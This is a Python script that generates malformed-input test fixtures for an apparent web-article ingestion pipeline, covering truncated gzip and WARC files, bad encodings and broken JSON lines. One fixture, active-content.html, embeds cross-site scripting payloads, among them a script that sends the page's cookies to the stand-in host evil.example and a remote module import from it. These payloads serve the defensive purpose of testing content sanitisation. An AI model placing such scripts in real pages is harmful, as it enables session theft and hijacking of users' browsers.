"""Regenerate the small bad-input fixtures in this folder (deterministic; run from anywhere).

    .venv/bin/python tests/data/bad/make_bad.py

The big ones (over the size cap, 50,000 nested divs, a 5 MB single line) are generated inside
the tests instead, so the repository stays small. README.md says what each file is for.
"""

from __future__ import annotations

import gzip
import io
import json
from pathlib import Path

HERE = Path(__file__).parent

REPORT = (
    "Gunmen attacked a police checkpoint near Gao in northern Mali on Tuesday, killing three "
    "officers, the regional governor said. No group claimed the attack."
)


def warc_record(uri: str, body: bytes, record_id: str) -> bytes:
    """One WARC/1.0 response record carrying an HTTP 200 HTML response."""
    http = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
        + f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\n"
        f"WARC-Record-ID: <urn:uuid:{record_id}>\r\n"
        "WARC-Date: 2023-05-02T10:00:00Z\r\n"
        f"WARC-Target-URI: {uri}\r\n"
        "Content-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(http)}\r\n\r\n"
    ).encode()
    return head + http + b"\r\n\r\n"


def page(title: str, text: str) -> bytes:
    return (
        f"<!doctype html><html><head><title>{title}</title>"
        '<meta name="date" content="2023-05-02"></head><body><article>'
        f"<h1>{title}</h1><p>{text}</p><p>{text}</p></article></body></html>"
    ).encode()


def main() -> None:
    (HERE / "empty.txt").write_bytes(b"")
    # NUL-laden bytes with no extension hint: sniffed, then refused as binary
    (HERE / "binary.dat").write_bytes(bytes(range(256)) * 8)
    # A UTF-8 article cut short: the gzip stream ends in the middle
    whole = gzip.compress(("Notes from the field.\n\n" + REPORT + "\n").encode() * 40)
    (HERE / "truncated.gz").write_bytes(whole[: len(whole) // 2])
    # A valid gzipped WARC with two responses, cut in the middle of the second one
    warc = io.BytesIO()
    for n in range(2):
        record = warc_record(
            f"https://news.example.org/mali-{n}", page(f"Mali attack {n}", REPORT), f"trunc-{n}"
        )
        warc.write(gzip.compress(record))
    data = warc.getvalue()
    (HERE / "truncated.warc.gz").write_bytes(data[: len(data) - 200])
    # An uncompressed WARC: one good record, then one whose header block is garbage
    good = warc_record("https://news.example.org/gao", page("Gao checkpoint", REPORT), "good-1")
    bad = b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: not-a-number\r\n\r\n\x00\x01garbage"
    (HERE / "malformed.warc").write_bytes(good + bad)
    # Invalid UTF-8: mostly valid text with lone continuation and lead bytes inside
    text = ("Kidal — Anéfis — Tessalit. " * 10 + REPORT).encode()
    (HERE / "invalid-utf8.txt").write_bytes(
        text[:60] + b"\x80\xfe" + text[60:200] + b"\xc3(" + text[200:]
    )
    # Mostly valid UTF-8: one stray byte, and the file cut inside its last character
    names = "Ḥaydar al-ʿĀmirī, Muqtadā al-Ṣadr and Abū Fadak al-Muḥammadāwī said. " * 4
    stray = (names + REPORT).encode() + b"\xff" + (" " + REPORT + " al-Muḥammadāwī").encode()
    (HERE / "stray-byte-utf8.txt").write_bytes(stray[:-1])
    # Windows-1256 Arabic (no declaration anywhere) and Windows-1252 English with curly quotes
    arabic = (
        "بغداد - سقطت ثلاثة صواريخ كاتيوشا على المنطقة الخضراء في بغداد مساء الأحد، "
        "وفق ما أفاد مصدر أمني. ولم تعلن أي جهة مسؤوليتها عن الهجوم.\n\n"
        "وقال المصدر إن الصواريخ أطلقت من منطقة شرق العاصمة العراقية."
    )
    (HERE / "arabic-cp1256.txt").write_bytes(arabic.encode("cp1256"))
    english = (
        "Police say “three officers” were killed at the checkpoint — the governor’s office "
        "confirmed the toll on Tuesday. Repairs will cost €40,000.\n\n" + REPORT
    )
    (HERE / "english-cp1252.txt").write_bytes(english.encode("cp1252"))
    # HTML full of active content around a real article
    evil = (
        "<!doctype html><html><head><title>Checkpoint attack near Gao</title>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<style>body{background:url(javascript:alert(1))}</style></head><body>"
        '<iframe src="https://evil.example/frame"></iframe>'
        "<article><h1>Checkpoint attack near Gao</h1>"
        f'<p onclick="alert(1)">{REPORT}</p>'
        '<p>Officials said <img src=x onerror="alert(document.domain)"> the attackers fled '
        'on motorbikes. <a href="javascript:alert(2)">Read more</a> '
        '<svg onload="alert(3)"><script>alert(4)</script></svg></p>'
        f"<p>{REPORT}</p></article>"
        "<script type=module>import('https://evil.example/x.js')</script></body></html>"
    )
    (HERE / "active-content.html").write_text(evil, encoding="utf-8")
    # JSON lines: good records, a broken line, a non-object, a record without text
    lines = [
        json.dumps({"title": "Gao checkpoint", "published": "2023-05-02", "text": REPORT}),
        '{"title": "cut short", "text": "Gunmen attacked',
        "[1, 2, 3]",
        json.dumps({"title": "no body at all"}),
        json.dumps({"title": "bad date", "published": "the day after never", "text": REPORT}),
        json.dumps({"title": "Menaka ambush", "published": "2023-05-03",
                    "text": REPORT.replace("Gao", "Menaka").replace("Tuesday", "Wednesday")}),
    ]  # fmt: skip
    (HERE / "mixed.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
